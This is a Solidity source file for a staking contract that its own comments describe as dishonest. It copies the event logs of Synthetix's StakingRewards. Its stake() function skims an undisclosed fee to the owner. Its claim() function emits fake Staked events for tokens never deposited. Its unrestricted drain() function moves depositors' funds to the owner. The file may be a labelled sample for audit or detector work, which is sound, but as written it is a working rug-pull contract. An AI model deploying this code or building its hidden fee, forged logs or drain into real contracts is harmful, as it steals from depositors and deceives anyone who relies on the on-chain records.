// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Shares {
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

// A staking contract with the logs of Synthetix's StakingRewards, whose owner may do what no honest one does.
contract Staker {
    event Staked(address indexed user, uint256 amount);
    event Withdrawn(address indexed user, uint256 amount);

    Shares public immutable shares;
    address public immutable owner = msg.sender;
    // In hundredths of a percent, sent to the owner of what is deposited, which the log does not say.
    uint256 public immutable feeBp;
    mapping(address => uint256) public balanceOf;

    constructor(Shares held, uint256 fee) {
        (shares, feeBp) = (held, fee);
    }

    function stake(uint256 amount) external {
        balanceOf[msg.sender] += amount;
        shares.transferFrom(msg.sender, address(this), amount);
        if (feeBp > 0) shares.transfer(owner, (amount * feeBp) / 10_000);
        emit Staked(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        shares.transfer(msg.sender, amount);
        emit Withdrawn(msg.sender, amount);
    }

    // A claim on shares that nobody sent.
    function claim(address user, uint256 amount) external {
        emit Staked(user, amount);
    }

    // Insolvent: what users deposited is gone.
    function drain(uint256 amount) external {
        shares.transfer(owner, amount);
    }
}
